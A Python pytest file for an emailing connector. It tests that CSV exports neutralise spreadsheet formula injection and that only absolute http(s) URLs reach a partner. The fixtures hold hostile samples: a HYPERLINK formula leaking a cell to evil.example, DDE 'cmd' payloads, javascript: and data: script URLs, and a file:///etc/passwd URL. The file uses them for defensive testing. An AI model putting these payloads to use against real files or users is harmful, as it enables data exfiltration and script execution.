"""What reaches the partner is safe to open: no spreadsheet formula in the CSV export, no URL other than an
absolute http(s) one in the bodies and files (issue 17, item 11)."""

from __future__ import annotations

import csv
import json
import logging
import math
import random
from pathlib import Path
from typing import Any

import httpx
import pytest

from passerelle.connectors.emailing.bridge import EmailingBridge
from passerelle.connectors.emailing.client import PartnerClient, encode_body
from passerelle.connectors.emailing.config import EmailingConfig, RetryPolicy
from passerelle.connectors.emailing.export import CSV_COLUMNS, Exported, csv_cell, write_window
from passerelle.connectors.emailing.mapping import (
    PayloadMapping,
    build_payload,
    is_safe_url,
    report_unsafe_urls,
    unsafe_urls,
)
from passerelle.connectors.emailing.metrics import EmailingMetrics

pytestmark = pytest.mark.unit

T0 = 1_732_800_000_000
SAFE_PRODUCT: dict[str, Any] = {
    "id": "SKU-1",
    "name": "Socks",
    "price": 9.5,
    "currency": "EUR",
    "quantity": 1,
    "category": "socks",
    "url": "https://shop.example/p/sku-1",
    "image_url": "https://cdn.example/sku-1.jpg",
}
HOSTILE_PRODUCT: dict[str, Any] = {
    **SAFE_PRODUCT,
    "id": "SKU-666",
    "name": "Bait",
    "url": "javascript:alert(document.cookie)",
    "image_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}
MESSAGE: dict[str, Any] = {
    "message_id": "seq-1:1",
    "sequence_id": "seq-1",
    "step": 1,
    "customer_id": "C-1",
    "email": "bob@example.org",
    "site": "shop.example",
    "products": [SAFE_PRODUCT, HOSTILE_PRODUCT],
    "lines": [{"product_id": "SKU-1", "name": "Socks", "price": 9.5, "quantity": 2, "currency": "EUR"}],
    "promotion": {"code": "BACK10", "description": "10% off", "discount_percent": 10.0},
    "created_at": T0,
}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


NEUTRALISED = {
    "message_id",
    "sequence_id",
    "customer_id",
    "email",
    "site",
    "product_ids",
    "promotion_code",
    "promotion_description",
}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def restore(cell: str) -> str:
    """The documented inverse for a partner reading the file with a program: drop one leading quote."""
    return cell[1:] if cell.startswith("'") else cell


# --- 1. formula injection in the CSV export -------------------------------------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_starting_like_a_formula_are_neutralised(tmp_path: Path, formula: str) -> None:
    hostile = {
        **MESSAGE,
        "message_id": formula + "-m",
        "sequence_id": formula + "-s",
        "customer_id": formula,
        "email": formula + "@example.org",
        "site": formula,
        "products": [{**SAFE_PRODUCT, "id": formula}],
        "promotion": {"code": formula, "description": formula, "discount_percent": 5.0},
    }
    csv_path, jsonl_path = write_window(tmp_path, "r", T0, T0 + 1, [Exported(hostile, 0, 7, T0)], PayloadMapping())
    (row,) = read_csv(csv_path)
    for column in NEUTRALISED:
        assert row[column].startswith("'"), (column, row[column])
        assert restore(row[column]).startswith(formula), column  # the value itself follows the quote
    for column in set(CSV_COLUMNS) - NEUTRALISED:
        assert not row[column].startswith("'"), column  # numbers, timestamps, JSON: nothing to neutralise
    assert row["customer_id"] == "'" + formula and row["promotion_code"] == "'" + formula
    assert json.loads(row["products"])[0]["id"] == formula  # inside a JSON cell: not at a cell start
    # The JSON-lines file is not a spreadsheet: the data goes as is.
    (body,) = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
    assert body["customer_id"] == formula and body["promotion"]["code"] == formula


def test_neutralising_is_reversible_and_leaves_ordinary_text_alone() -> None:
    for value in [*FORMULAS, "'=already quoted", "'", "plain", "", "a=b", "x-1", "1-2", "ok@example.org"]:
        cell = csv_cell(value)
        assert isinstance(cell, str) and restore(cell) == value
        first = cell[:1]
        assert first not in {"=", "+", "-", "@", "\t", "\r", "\0"}
    assert csv_cell("plain") == "plain" and csv_cell("a=b") == "a=b" and csv_cell("") == ""
    assert csv_cell("'x") == "''x"  # so that one leading quote is always the export's own
    assert csv_cell(None) == ""


def test_typed_numeric_columns_stay_numbers_text_that_looks_numeric_does_not(tmp_path: Path) -> None:
    message = {
        **MESSAGE,
        "customer_id": "-42",
        "promotion": {"code": "-10", "description": "-10%", "discount_percent": -5.0},
    }
    csv_path, _ = write_window(tmp_path, "r", T0, T0 + 1, [Exported(message, 3, 12, T0)], PayloadMapping())
    raw = csv_path.read_text(encoding="utf-8").splitlines()[1]
    assert ",-5.0,3,12" in raw  # a negative number of a numeric column is written as the number it is
    (row,) = read_csv(csv_path)
    assert row["promotion_discount_percent"] == "-5.0" and float(row["promotion_discount_percent"]) == -5.0
    assert (row["step"], row["source_partition"], row["source_offset"]) == ("1", "3", "12")
    assert row["customer_id"] == "'-42" and row["promotion_code"] == "'-10" and row["promotion_description"] == "'-10%"
    # Only finite numbers of a numeric column are numbers: anything else is text, neutralised like text.
    assert csv_cell(-5.0, numeric=True) == -5.0 and csv_cell(-3, numeric=True) == -3 and csv_cell(0, numeric=True) == 0
    assert csv_cell(-5.0) == "'-5.0" and csv_cell(-3) == "'-3" and csv_cell(7) == "7"
    assert csv_cell(-math.inf, numeric=True) == "'-inf" and csv_cell(math.nan, numeric=True) == "nan"
    assert csv_cell(True, numeric=True) == "True" and csv_cell("-1", numeric=True) == "'-1"
    assert csv_cell(None, numeric=True) == ""


# --- 2. only absolute http(s) URLs reach the partner ----------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://shop.example/p/sku-1",
        "http://shop.example",
        "HTTPS://Shop.Example/P?q=1&r=%20#frag",
        "https://shop.example:8443/p/1",
        "https://[2001:db8::1]/p",
        "https://user@shop.example/p",
    ],
)
def test_absolute_http_urls_are_safe(url: str) -> None:
    assert is_safe_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "ftp://shop.example/p",
        "mailto:a@example.org",
        "//evil.example/p",
        "/p/sku-1",
        "shop.example/p/sku-1",
        "https:evil.example",
        "https:\\\\evil.example",
        "https:///p",
        "http://[::1",
        "https://shop.example:99999/",
        " https://shop.example/p",
        "https://shop.example/p\n",
        "https://shop.example/a b",
        "",
        None,
        42,
    ],
)
def test_anything_else_is_unsafe(url: Any) -> None:
    assert not is_safe_url(url)


def test_unsafe_product_urls_become_null_and_the_rest_of_the_body_goes_out() -> None:
    body = build_payload(MESSAGE)
    safe, hostile = body["products"]
    assert safe == SAFE_PRODUCT
    assert hostile == {**HOSTILE_PRODUCT, "url": None, "image_url": None}  # kept, the fields null
    assert body["cart_lines"] == MESSAGE["lines"] and body["email"] == "bob@example.org"
    sent = encode_body(body)
    assert b"javascript" not in sent and b"data:" not in sent
    assert MESSAGE["products"][1]["url"].startswith("javascript:")  # the message itself is not changed
    assert unsafe_urls(MESSAGE) == [
        ("products.1.url", HOSTILE_PRODUCT["url"]),
        ("products.1.image_url", HOSTILE_PRODUCT["image_url"]),
    ]
    assert unsafe_urls({**MESSAGE, "products": [SAFE_PRODUCT, {**SAFE_PRODUCT, "url": None}]}) == []


def test_a_configured_mapping_cannot_pick_an_unsafe_url_either() -> None:
    mapping = PayloadMapping(
        fields={
            "vars.link": "products.1.url",
            "vars.image": "products.-1.image_url",
            "vars.good_link": "products.0.url",
            "vars.product": "products.1",
            "vars.products": "products",
        }
    )
    body = build_payload(MESSAGE, mapping)
    assert body["vars"]["link"] is None and body["vars"]["image"] is None
    assert body["vars"]["good_link"] == SAFE_PRODUCT["url"]
    assert body["vars"]["product"]["url"] is None and body["vars"]["products"][1]["image_url"] is None
    assert b"javascript" not in encode_body(body)


def test_export_files_carry_no_unsafe_url(tmp_path: Path) -> None:
    csv_path, jsonl_path = write_window(tmp_path, "r", T0, T0 + 1, [Exported(MESSAGE, 0, 1, T0)], PayloadMapping())
    for path in (csv_path, jsonl_path):
        text = path.read_text(encoding="utf-8")
        assert "javascript" not in text and "data:text" not in text
        assert SAFE_PRODUCT["url"] in text
    (row,) = read_csv(csv_path)
    assert [p["url"] for p in json.loads(row["products"])] == [SAFE_PRODUCT["url"], None]


def test_unsafe_urls_are_reported_once_per_message(caplog: pytest.LogCaptureFixture) -> None:
    logger = logging.getLogger("test.partner_safety")
    with caplog.at_level(logging.WARNING, logger="test.partner_safety"):
        assert report_unsafe_urls(MESSAGE, logger) == 2
        assert report_unsafe_urls({**MESSAGE, "products": [SAFE_PRODUCT]}, logger) == 0
    (record,) = caplog.records
    text = record.getMessage()
    assert "seq-1:1" in text and "products.1.url" in text and "products.1.image_url" in text
    assert "\n" not in text


class FakeMessage:
    def __init__(self, offset: int) -> None:
        self._offset = offset

    def value(self) -> bytes:
        return b"avro"

    def topic(self) -> str:
        return "remarketing.messages"

    def partition(self) -> int:
        return 0

    def offset(self) -> int:
        return self._offset


class FakeDecoder:
    def __init__(self, message: dict[str, Any]) -> None:
        self.message = message

    def decode(self, _: bytes | None) -> dict[str, Any]:
        return self.message


def test_the_bridge_sends_the_message_without_the_unsafe_urls_and_counts_them_once(
    caplog: pytest.LogCaptureFixture,
) -> None:
    seen: list[httpx.Request] = []

    def partner(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(500 if len(seen) == 1 else 202)  # one retry: still counted once

    cfg = EmailingConfig(
        bootstrap_servers="127.0.0.1:1",
        schema_registry_url="http://127.0.0.1:2",
        partner_url="https://partner.example/v1/messages",
        retry=RetryPolicy(max_attempts=3, base_delay_s=0.0, max_delay_s=0.0, jitter=0.0),
    )
    metrics = EmailingMetrics()
    bridge = EmailingBridge(cfg, metrics=metrics)
    outputs: list[Any] = []
    bridge._decoder = FakeDecoder(MESSAGE)  # type: ignore[assignment]
    bridge._client = PartnerClient(cfg, metrics, rng=random.Random(1), transport=httpx.MockTransport(partner))
    bridge._encode_key = lambda key: key.encode()  # type: ignore[method-assign]
    bridge._encode_value = lambda record: record  # type: ignore[method-assign,assignment,return-value]
    bridge._produce = lambda topic, value, key, **kw: outputs.append(value)  # type: ignore[method-assign]
    with caplog.at_level(logging.WARNING, logger="passerelle.connectors.emailing"):
        bridge._decide(FakeMessage(5))  # type: ignore[arg-type]
    assert len(seen) == 2
    for request in seen:
        assert b"javascript" not in request.content and b"data:" not in request.content
        assert json.loads(request.content)["products"][1]["url"] is None
    (record,) = outputs
    assert record.outcome == "delivered"
    assert "passerelle_emailing_unsafe_urls_total 2.0" in metrics.render().decode()
    assert len([r for r in caplog.records if "products.1.url" in r.getMessage()]) == 1
